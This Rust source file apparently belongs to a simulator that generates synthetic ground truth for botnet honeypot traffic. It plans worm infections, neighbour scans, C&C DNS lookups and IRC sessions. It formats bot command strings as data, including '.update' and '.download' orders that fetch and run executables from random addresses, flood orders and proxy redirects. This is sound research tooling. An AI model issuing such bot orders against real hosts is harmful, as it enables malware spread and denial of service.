//! Planning the infected honeypots (Fig. 3): infection, neighbour scans,
//! the C&C lookup, diurnal joins and each IRC session's orders.
//!
//! Every draw happens in the order the field has always drawn it (the
//! same seed gives the same bytes): infection, scans, joins, updates per
//! day, nick, then per session its length, its orders, their consequences
//! and the client port.

use super::*;
use crate::draw::{flow, free_port, pick, public_ip, word};
use crate::orders::{flood_order, parse_order, SCAN_ORDERS};
use crate::specimen::{BotConfig, BotServer};
use crate::truth::*;
use botscope_core::{Proto, Ts};
use rand::Rng;
use std::net::Ipv4Addr;

/// Field-wide counts that make the first floods and redirects cover
/// every kind.
#[derive(Default)]
struct Quotas {
    /// Flood orders given so far (the first seven take the seven kinds).
    ddos_given: usize,
    /// Redirect orders given so far (the first two always come).
    redirect_given: usize,
}

/// What every session of one bot shares.
struct BotSessions {
    bot: Ipv4Addr,
    cfg: BotConfig,
    server: BotServer,
    srv_ip: Ipv4Addr,
    srv_name: String,
    nick: String,
    herder: String,
    /// Join times, ascending.
    joins: Vec<i64>,
    /// Updates still to order per day of the field.
    updates_per_day: Vec<u32>,
}

/// One session's orders before they are issued: (time, text, `topic` or
/// `privmsg`).
type OrderList = Vec<(i64, String, &'static str)>;

impl Gen {
    /// Plans every infected honeypot: its infection (Fig. 3), its C&C
    /// lookup and its IRC sessions with their orders.
    pub(super) fn plan_bots(&mut self) {
        let n_spec = self.n(10.0).clamp(4, 400);
        let n_bots = self.n(4.0).max(2);
        let mut quotas = Quotas::default();
        for b in 0..n_bots {
            let bot = self.t.sensors[b % self.t.sensors.len()];
            let specimen = (n_spec + b) as u32;
            let cfgb = self.specs[specimen as usize].truth.config.clone();
            let mut seq: Vec<(String, Ts)> = Vec::new();
            let t_scan = self.plan_infection(b, bot, specimen, &mut seq);
            // DNS then IRC.
            let server = cfgb.servers[0].clone();
            let t_dns = t_scan + 100_000_000;
            let answers = self.plan_cc_lookup(bot, &server.host, t_dns);
            seq.push(("dns".into(), Ts(t_dns)));
            let joins = self.plan_joins(t_dns);
            // Updates per day: 2,3,4,6 with weights giving 3.4 on average.
            let updates_per_day: Vec<u32> = (0..self.cfg.days)
                .map(|_| [2, 3, 4, 6][pick(&mut self.rng, &[2.0, 4.0, 3.0, 1.0])])
                .collect();
            let nick = format!(
                "{}{:05}",
                cfgb.nick_prefix,
                self.rng.random_range(0..100_000)
            );
            let herder = self
                .herder
                .get(&server.host)
                .cloned()
                .unwrap_or_else(|| "herder".into());
            let srv_ip = answers
                .first()
                .copied()
                .unwrap_or(Ipv4Addr::new(0, 0, 0, 0));
            let mut bs = BotSessions {
                bot,
                srv_name: format!("irc.{}", server.host),
                cfg: cfgb,
                server,
                srv_ip,
                nick,
                herder,
                joins,
                updates_per_day,
            };
            for si in 0..bs.joins.len() {
                self.plan_session(&mut bs, si, &mut quotas, &mut seq);
            }
            self.t.bots.push(BotTruth {
                ip: bot,
                specimen,
                sequence: seq,
            });
        }
    }

    /// Bot `b`'s infection: the exploit, the copy (typed for bots 2 and 4
    /// of every four), then at once a scan of its own /24 and /16. Returns
    /// the scan's start.
    fn plan_infection(
        &mut self,
        b: usize,
        bot: Ipv4Addr,
        specimen: u32,
        seq: &mut Vec<(String, Ts)>,
    ) -> i64 {
        let t_inf = self.cfg.start_us + self.rng.random_range(600_000_000..6 * 3_600_000_000);
        let attacker = public_ip(&mut self.rng);
        let vector = [
            Vector::Ms03_026,
            Vector::Ms04_011,
            Vector::ShareAccess,
            Vector::Ms03_039,
        ][b % 4];
        let mut method = if self.rng.random_bool(0.82) {
            CopyMethod::TftpGet
        } else {
            CopyMethod::TcpPush
        };
        // Issue 15, classes 2 and 3: the second bot of every four is
        // infected the way Sasser spread (LSASS, a bind shell, a typed
        // FTP script, the infecting host's FTP server on 5554, active
        // mode); the fourth by a `tftp` typed into the shell.
        let start = match b % 4 {
            1 => {
                method = CopyMethod::ReverseConnect;
                CopyStart::Shell {
                    ftp_port: Some(SASSER_FTP_PORT),
                    active: true,
                }
            }
            3 => {
                method = CopyMethod::TftpGet;
                CopyStart::Shell {
                    ftp_port: None,
                    active: false,
                }
            }
            _ => CopyStart::Plain,
        };
        let e = self.add_exploit(
            t_inf,
            attacker,
            bot,
            vector,
            Cap::Infected,
            Some((method, true, specimen)),
            start,
        );
        seq.push(("exploit".into(), Ts(t_inf)));
        let cp = self.t.exploits[e as usize].copy.unwrap_or(0);
        if let Some(sh) = &self.t.copies[cp as usize].shell {
            seq.push(("shell".into(), sh.ts));
        }
        let t_copy = self.t.copies[cp as usize].ts.0;
        seq.push(("copy".into(), Ts(t_copy)));
        // Neighbour scan at once: own /24 then own /16.
        let t_scan = t_copy + 15_000_000;
        let o = bot.octets();
        let port = if vector == Vector::Ms04_011 { 445 } else { 135 };
        for (k, range) in [
            format!("{}.{}.{}.0/24", o[0], o[1], o[2]),
            format!("{}.{}.0.0/16", o[0], o[1]),
        ]
        .into_iter()
        .enumerate()
        {
            let count = self.rng.random_range(40..120);
            let st = t_scan + k as i64 * 40_000_000;
            let idx = self.t.scans.len() as u32;
            self.t.scans.push(ScanTruth {
                order: None,
                source: bot,
                range,
                port,
                start: Ts(st),
                end: Ts(st + (count as i64 - 1) * 300_000),
                count,
            });
            self.jobs.push((st, Cap::Infected, Job::Scan { idx }));
        }
        seq.push(("scan".into(), Ts(t_scan)));
        t_scan
    }

    /// The bot's lookup of its C&C name; returns the answers.
    fn plan_cc_lookup(&mut self, bot: Ipv4Addr, host: &str, t_dns: i64) -> Vec<Ipv4Addr> {
        let answers = self.cc.get(host).cloned().unwrap_or_default();
        let d = self.t.dns_lookups.len() as u32;
        self.t.dns_lookups.push(DnsLookupTruth {
            client: bot,
            resolver: self.resolver_ip,
            qname: host.to_string(),
            answers: answers.clone(),
            ts: Ts(t_dns),
        });
        self.jobs.push((t_dns, Cap::Infected, Job::Dns { idx: d }));
        answers
    }

    /// Join times: the first right after the lookup, then 2–3 a day at
    /// local hours drawn with daytime weights, at least 2 h apart.
    fn plan_joins(&mut self, t_dns: i64) -> Vec<i64> {
        let mut joins = vec![t_dns + 2_000_000];
        for day in 0..self.cfg.days as i64 {
            let k = self.rng.random_range(2..=3);
            for _ in 0..k {
                let lh = pick(&mut self.rng, &DIURNAL) as i64;
                let day_start = self.cfg.start_us + day * 86_400_000_000;
                let off = self.cfg.zone.offset_at(day_start.div_euclid(1_000_000));
                let day_start_local = day_start - i64::from(off) * 1_000_000;
                let mut t =
                    day_start_local + lh * 3_600_000_000 + self.rng.random_range(0..3_600_000_000);
                if t < self.cfg.start_us {
                    t += 86_400_000_000;
                }
                if t > joins[0] + 3_600_000_000 && t < self.end_us() - 1_800_000_000 {
                    joins.push(t);
                }
            }
        }
        joins.sort();
        joins.dedup_by(|a, b| *a - *b < 2 * 3_600_000_000);
        joins
    }

    /// The day (of the field) a time falls in.
    fn field_day(&self, t: i64) -> usize {
        let days = self.cfg.days as i64;
        ((t - self.cfg.start_us) / 86_400_000_000).clamp(0, days - 1) as usize
    }

    /// Session `si` of a bot: its length, its orders issued with their
    /// consequences and replies, keep-alive PINGs, and its truth.
    fn plan_session(
        &mut self,
        bs: &mut BotSessions,
        si: usize,
        quotas: &mut Quotas,
        seq: &mut Vec<(String, Ts)>,
    ) {
        let join_t = bs.joins[si];
        let connect = join_t - 1_500_000;
        let next = bs.joins.get(si + 1).copied().unwrap_or(self.end_us());
        let dur = self.rng.random_range(1_200_000_000..3 * 3_600_000_000i64);
        let end = (join_t + dur)
            .min(next - 600_000_000)
            .min(self.end_us() - 60_000_000)
            .max(join_t + 300_000_000);
        let sid = self.t.irc_sessions.len() as u32;
        let (topic, order_list) = self.session_orders(bs, si, quotas);
        let mut lines: Vec<IrcLine> = Vec::new();
        let (privmsgs, last_t) = self.issue_orders(bs, (sid, si), end, order_list, &mut lines, seq);
        // Keep-alive PINGs every 5 minutes.
        let mut pt = join_t + 300_000_000;
        while pt < end - 5_000_000 {
            lines.push(IrcLine {
                t: pt,
                from_server: true,
                text: format!("PING :{}\r\n", bs.srv_name),
            });
            lines.push(IrcLine {
                t: pt + 300_000,
                from_server: false,
                text: format!("PONG :{}\r\n", bs.srv_name),
            });
            pt += 300_000_000;
        }
        lines.sort_by_key(|l| l.t);
        let cport = free_port(&mut self.rng, 1025, 5000);
        let (bot, srv_ip, port) = (bs.bot, bs.srv_ip, bs.server.port);
        self.t.irc_sessions.push(IrcSessionTruth {
            id: sid,
            bot,
            server: srv_ip,
            port,
            fqdn: bs.server.host.clone(),
            nick: bs.nick.clone(),
            channel: bs.cfg.channel.clone(),
            key: bs.cfg.key.clone(),
            connect: Ts(connect),
            join: Ts(join_t),
            end: Ts(end.max(last_t + 3_000_000)),
            flow: flow(bot, cport, srv_ip, port, Proto::Tcp),
            privmsg_lines: privmsgs,
            // Issue 15, class 7: servers at an odd address speak
            // IRCv3 message tags (no draw from the stream).
            tags: srv_ip.octets()[3] % 2 == 1,
        });
        self.irc_lines.push(lines);
        self.irc_topic.push(topic);
        self.jobs
            .push((connect, Cap::Infected, Job::Irc { idx: sid }));
    }

    /// Draws session `si`'s orders: the topic scan order, its share of
    /// the day's updates, maybe a flood (always among the field's first
    /// seven), a download, a redirect (always the field's first two) and
    /// another scan. Returns the topic and the list in time order.
    fn session_orders(
        &mut self,
        bs: &mut BotSessions,
        si: usize,
        quotas: &mut Quotas,
    ) -> (String, OrderList) {
        let join_t = bs.joins[si];
        let day = self.field_day(join_t);
        let day_sessions = bs
            .joins
            .iter()
            .filter(|&&j| self.field_day(j) == day)
            .count()
            .max(1) as u32;
        let sess_in_day = bs.joins[..si]
            .iter()
            .filter(|&&j| self.field_day(j) == day)
            .count() as u32;
        // Topic order.
        let topic = SCAN_ORDERS[self.rng.random_range(0..SCAN_ORDERS.len())].to_string();
        let mut order_list: OrderList = vec![(join_t, topic.clone(), "topic")];
        let mut ot = join_t + 5_000_000;
        // This session's share of the day's updates.
        let per_day = bs.updates_per_day[day];
        let share = per_day / day_sessions + u32::from(sess_in_day < per_day % day_sessions);
        for _ in 0..share {
            let id = self.rng.random_range(1000..99999);
            let web = public_ip(&mut self.rng);
            order_list.push((
                ot,
                format!(".update http://{web}/{}.exe {id}", word(&mut self.rng, 6)),
                "privmsg",
            ));
            ot += self.rng.random_range(60_000_000..600_000_000);
        }
        if si == bs.joins.len() - 1 {
            bs.updates_per_day[day] = 0;
        }
        // Other orders.
        if self.rng.random_bool(0.5) || quotas.ddos_given < 7 {
            ot = self.flood_orders(quotas, ot, &mut order_list);
        }
        if self.rng.random_bool(0.3) {
            let web = public_ip(&mut self.rng);
            let f = word(&mut self.rng, 5);
            order_list.push((
                ot,
                format!(".download http://{web}/{f}.exe c:\\{f}.exe 1"),
                "privmsg",
            ));
            ot += 60_000_000;
        }
        if (quotas.redirect_given < 2 || self.rng.random_bool(0.25))
            && si + 1 < bs.joins.len().max(2)
        {
            quotas.redirect_given += 1;
            order_list.push((ot, self.redirect_order(), "privmsg"));
            ot += 60_000_000;
        }
        if self.rng.random_bool(0.3) {
            let s = SCAN_ORDERS[self.rng.random_range(0..SCAN_ORDERS.len())].to_string();
            order_list.push((ot, s, "privmsg"));
        }
        (topic, order_list)
    }

    /// A flood order (the field's first seven take the seven kinds in
    /// turn) and its `.ddos.stop`; returns the time after them.
    fn flood_orders(&mut self, quotas: &mut Quotas, mut ot: i64, list: &mut OrderList) -> i64 {
        let kind_i = if quotas.ddos_given < 7 {
            quotas.ddos_given
        } else {
            pick(&mut self.rng, &FLOOD_WEIGHTS)
        };
        quotas.ddos_given += 1;
        let target = public_ip(&mut self.rng);
        let kind = FLOOD_KINDS[kind_i];
        let (port, secs) = match kind {
            "ddos.phaticmp" => (0u16, self.rng.random_range(60..300)),
            "ddos.httpflood" => (80, self.rng.random_range(60..180)),
            _ => (
                [6667u16, 6667, 7000, 5562][self.rng.random_range(0..4)],
                self.rng.random_range(60..600),
            ),
        };
        let delay = self.flood_delay_ms();
        list.push((ot, flood_order(kind, target, port, secs, delay), "privmsg"));
        ot += secs as i64 * 1_000_000 + 30_000_000;
        list.push((ot, ".ddos.stop".into(), "privmsg"));
        ot + 20_000_000
    }

    /// A redirect order on a Table 11 port.
    fn redirect_order(&mut self) -> String {
        let mut w: Vec<f64> = SPAM_PORTS.iter().map(|p| p.1).collect();
        w[6] = 1.0;
        let pi = pick(&mut self.rng, &w);
        let port = if SPAM_PORTS[pi].0 == 0 {
            free_port(&mut self.rng, 2000, 60000)
        } else {
            SPAM_PORTS[pi].0
        };
        match self.rng.random_range(0..3) {
            0 => format!(".redirect.socks {port}"),
            1 => format!(".redirect.http {port}"),
            _ => format!(".redirect.tcp {port} {} 25", public_ip(&mut self.rng)),
        }
    }

    /// Issues a session's orders (those not too close to its end): plans
    /// what each makes the bot do, schedules the herder's PRIVMSG and the
    /// bot's reply, and records the order and the Fig. 3 stages. Returns
    /// the PRIVMSG lines written and the last order's time.
    fn issue_orders(
        &mut self,
        bs: &BotSessions,
        (sid, si): (u32, usize),
        end: i64,
        order_list: OrderList,
        lines: &mut Vec<IrcLine>,
        seq: &mut Vec<(String, Ts)>,
    ) -> (u32, i64) {
        let (bot, herder, channel) = (bs.bot, &bs.herder, &bs.cfg.channel);
        let mut privmsgs = 0u32;
        let mut last_t = bs.joins[si];
        for (t, raw, via) in order_list {
            if t >= end - 10_000_000 && via != "topic" {
                continue;
            }
            let oid = self.t.orders.len() as u32;
            let (command, args) = parse_order(&raw);
            let reply = self.execute_order(oid, bot, t, &command, &args);
            if via == "privmsg" {
                lines.push(IrcLine {
                    t,
                    from_server: true,
                    text: format!(
                        ":{herder}!~{herder}@{} PRIVMSG {channel} :{raw}\r\n",
                        bs.srv_ip
                    ),
                });
                privmsgs += 1;
            }
            if let Some(r) = &reply {
                lines.push(IrcLine {
                    t: t + 1_500_000,
                    from_server: false,
                    text: format!("PRIVMSG {channel} :{r}\r\n"),
                });
                privmsgs += 1;
            }
            if via == "topic" && si == 0 {
                seq.push(("irc_join".into(), Ts(t)));
            }
            if command == "update" && seq.iter().all(|s| s.0 != "update") {
                seq.push(("update".into(), Ts(t)));
            }
            self.t.orders.push(OrderTruth {
                id: oid,
                session: sid,
                bot,
                ts: Ts(t),
                via: via.into(),
                raw,
                command,
                args,
                reply,
            });
            last_t = last_t.max(t);
        }
        (privmsgs, last_t)
    }
}
